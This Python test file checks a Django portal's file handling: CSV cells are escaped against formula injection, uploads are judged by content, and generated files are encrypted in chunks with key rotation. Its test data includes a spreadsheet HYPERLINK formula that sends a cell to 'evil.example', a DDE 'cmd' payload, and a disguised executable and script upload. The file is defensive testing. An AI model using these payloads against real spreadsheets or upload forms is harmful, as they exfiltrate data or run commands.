"""The files kit (apps/core/files.py): CSV cells a spreadsheet cannot run, uploads judged by their content,
generated files encrypted at rest, and ``Cache-Control: no-store`` on every signed-in answer."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from apps.core import files
from tests.registry.factories import jpeg_bytes

ROOT = Path(__file__).resolve().parent.parent.parent


# --- CSV (finding 6) ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_formula_like_cells_are_written_as_text(value):
    out = io.StringIO()
    files.csv_writer(out).writerow([value, "张伟", 42, -3, None])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + value, "张伟", "42", "-3", ""]


def test_ordinary_cells_are_unchanged():
    assert [files.csv_cell(v) for v in ("张伟", "a=b", "10.1.2.3", "", 7, 1.5)] == ["张伟", "a=b", "10.1.2.3", "", 7,
                                                                                    1.5]


def test_every_csv_the_portal_writes_goes_through_the_safe_writer():
    """One helper for all CSV writers: ``csv.writer``/``DictWriter`` appear nowhere else in the apps."""
    offenders = []
    for path in (ROOT / "apps").rglob("*.py"):
        if path == ROOT / "apps" / "core" / "files.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --- uploads (finding 15) -------------------------------------------------------------------------


def png_bytes() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.parametrize(("name", "content", "kind"), [
    ("scan.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n%%EOF\n", "pdf"),
    ("photo.jpg", jpeg_bytes(), "jpeg"),
    ("photo.png", png_bytes(), "png"),
    ("renamed.jpg", png_bytes(), "png"),  # the content decides
    ("virus.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, None),
    ("page.pdf", b"<html><script>alert(1)</script></html>", None),
    ("fake.jpg", b"\xff\xd8jpeg", None),  # a JPEG's first bytes, then nothing an image reader accepts
    ("anim.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", None),
    ("empty.pdf", b"", None),
])
def test_uploads_are_judged_by_their_content(name, content, kind):
    upload = SimpleUploadedFile(name, content)
    assert files.upload_kind(upload) == kind
    assert upload.tell() == 0  # left at its start for whoever stores it


def test_random_upload_names_keep_only_the_extension():
    name = files.random_upload_name("张伟家 门口合影.JPG", "jpeg")
    assert re.fullmatch(r"[0-9a-f]{32}\.jpg", name)
    assert files.random_upload_name("x.PNG").endswith(".png")
    assert files.random_upload_name("a.jpg", "jpeg") != files.random_upload_name("a.jpg", "jpeg")


# --- encryption of generated files (finding 5) ----------------------------------------------------


def _seal(data: bytes) -> bytes:
    out = io.BytesIO()
    files.encrypt_stream(io.BytesIO(data), out)
    return out.getvalue()


def _open(sealed: bytes) -> bytes:
    return b"".join(files.decrypt_stream(io.BytesIO(sealed)))


@pytest.mark.parametrize("size", [0, 1, 10, 30])
def test_encryption_round_trips_in_chunks(monkeypatch, size):
    monkeypatch.setattr(files, "CHUNK_BYTES", 10)
    data = bytes(range(256))[:size] if size else b""
    sealed = _seal(data)
    assert sealed.startswith(files.MAGIC)
    assert not data or data not in sealed
    assert _open(sealed) == data
    assert sealed.count(b"\n") == 1 + max(1, -(-size // 10))  # the magic line, one line per chunk


def test_a_cut_reordered_or_altered_file_is_refused(monkeypatch):
    monkeypatch.setattr(files, "CHUNK_BYTES", 4)
    sealed = _seal(b"320113199001011234")
    magic, *chunks = sealed.split(b"\n")[:-1]
    with pytest.raises(files.EncryptedFileError):  # cut after a whole chunk
        _open(b"\n".join([magic, *chunks[:-1]]) + b"\n")
    with pytest.raises(files.EncryptedFileError):  # two chunks swapped
        _open(b"\n".join([magic, chunks[1], chunks[0], *chunks[2:]]) + b"\n")
    altered = bytearray(sealed)
    altered[len(files.MAGIC) + 40] ^= 1
    with pytest.raises(files.EncryptedFileError):
        _open(bytes(altered))
    with pytest.raises(files.EncryptedFileError):
        _open(b"PK\x03\x04 a plain workbook")


def test_files_follow_key_rotation(settings):
    settings.FIELD_ENCRYPTION_KEY = "old-key"
    sealed = _seal(b"full ID numbers")
    settings.FIELD_ENCRYPTION_KEY = "new-key,old-key"  # new key first: encrypts; the old one still decrypts
    assert _open(sealed) == b"full ID numbers"
    settings.FIELD_ENCRYPTION_KEY = "another-key"
    with pytest.raises(files.EncryptedFileError):
        _open(sealed)


def test_the_file_key_is_not_the_id_number_key(settings):
    """Derived with its own purpose: a token of one cannot be opened with the other."""
    from apps.registry import crypto

    token = crypto.encrypt("320113199001011234").encode()
    with pytest.raises(files.EncryptedFileError):
        _open(files.MAGIC + token + b"\n")
